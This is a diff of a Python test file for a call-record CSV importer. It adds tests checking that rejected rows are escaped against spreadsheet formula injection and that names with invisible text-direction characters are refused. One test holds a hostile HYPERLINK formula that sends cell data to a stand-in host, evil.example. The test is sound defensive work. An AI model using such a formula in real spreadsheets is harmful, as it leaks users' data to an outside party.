@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import tracemalloc
 from collections.abc import Callable
 from datetime import UTC, datetime, timedelta
@@ -104,19 +105,51 @@ def test_skip_invalid_writes_rejects_and_report_beside_each_other(
     )
     assert (report.inserted, report.rejected, report.problems_total) == (2, 2, 2)
     folder = settings.data_dir / "imports"
-    assert report.rejects_path == str(folder / "calls.rejects.csv")
-    assert report.report_path == str(folder / "calls.import-report.json")
-    with (folder / "calls.rejects.csv").open(encoding="utf-8", newline="") as handle:
+    assert report.rejects_path and report.report_path
+    rejects_file, report_file = Path(report.rejects_path), Path(report.report_path)
+    assert rejects_file.parent == report_file.parent == folder
+    assert re.fullmatch(r"calls\.\d{8}T\d{6}Z-[0-9a-f]{6}\.rejects\.csv", rejects_file.name)
+    assert report_file.name == rejects_file.name.replace(".rejects.csv", ".import-report.json")
+    with rejects_file.open(encoding="utf-8", newline="") as handle:
         rejects = list(csv.DictReader(handle))
     assert [(r["line"], r["field"], r["message"]) for r in rejects] == [
         ("3", "wait_s", "negative duration -5"),
         ("4", "answered_at", "answer is 60 s before arrival"),
     ]
     assert rejects[0]["raw"].startswith("a2,Sales,2024-01-15T09:01:00+00:00")
-    saved = json.loads((folder / "calls.import-report.json").read_text(encoding="utf-8"))
+    saved = json.loads(report_file.read_text(encoding="utf-8"))
     assert (saved["inserted"], saved["rejected"], saved["batch_id"]) == (2, 2, report.batch_id)
     stored = main_org.scalars(select(Contact.external_id).order_by(Contact.external_id)).all()
     assert stored == ["a1", "a4"]
+
+
+def test_rejects_file_escapes_formulas_and_a_second_import_keeps_the_first_files(
+    main_org: Session, settings: Settings, tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    quoted = '"' + hostile.replace('"', '""') + '"'
+    path = tmp_path / "calls.csv"
+    path.write_text(
+        f"{HEADER}\n"
+        f"{quoted},Sales,2024-01-15T09:00:00+00:00,,,abandoned,-5,0,,\n"
+        "a2,Sales,2024-01-15T09:01:00+00:00,,,abandoned,5,0,,\n",
+        encoding="utf-8",
+    )
+    first = contacts_imports.import_contacts(
+        session=main_org, settings=settings, path=path, format="csv", skip_invalid=True
+    )
+    second = contacts_imports.import_contacts(
+        session=main_org, settings=settings, path=path, format="csv", skip_invalid=True
+    )
+    assert (first.inserted, first.rejected, second.unchanged, second.rejected) == (1, 1, 1, 1)
+    assert first.rejects_path and second.rejects_path and first.report_path
+    assert first.rejects_path != second.rejects_path
+    assert first.report_path != second.report_path
+    assert Path(first.rejects_path).exists() and Path(first.report_path).exists()
+    with Path(first.rejects_path).open(encoding="utf-8", newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    assert row["raw"].startswith("'" + hostile)
+    assert (row["line"], row["field"], row["message"]) == ("2", "wait_s", "negative duration -5")
 
 
 def test_unknown_queues_and_agents_are_listed_and_nothing_is_stored(
@@ -159,6 +192,35 @@ def test_unknown_queues_and_agents_are_listed_and_nothing_is_stored(
     billing = org_service.get_queue(session=main_org, name="Billing")
     assert (billing.site.name, billing.channel.name) == ("Main", "voice")
     assert org_service.get_person(session=main_org, login="dave").site_id == billing.site_id
+
+
+def test_create_missing_refuses_names_with_direction_or_control_characters(
+    main_org: Session, settings: Settings, tmp_path: Path
+) -> None:
+    path = tmp_path / "calls.csv"
+    path.write_text(
+        f"{HEADER}\n"
+        "a1,Bill\u202eing,2024-01-15T09:00:00+00:00,,,abandoned,5,0,,\n"
+        "a2,Sales,2024-01-15T09:01:00+00:00,2024-01-15T09:01:05+00:00,,answered,,10,ev\u2066e,\n",
+        encoding="utf-8",
+    )
+    with pytest.raises(Invalid) as caught:
+        contacts_imports.import_contacts(
+            session=main_org, settings=settings, path=path, format="csv", create_missing=True
+        )
+    assert [(p.field, p.message) for p in caught.value.problems] == [
+        (
+            "queue",
+            "queue name 'Bill\\u202eing' is not valid: "
+            "name contains an invisible text-direction character (U+202E)",
+        ),
+        (
+            "agent",
+            "agent 'ev\\u2066e' is not a valid login: "
+            "login contains an invisible text-direction character (U+2066)",
+        ),
+    ]
+    assert main_org.scalar(select(func.count()).select_from(Contact)) == 0
 
 
 def test_create_missing_without_any_site_creates_the_default_site_in_utc(
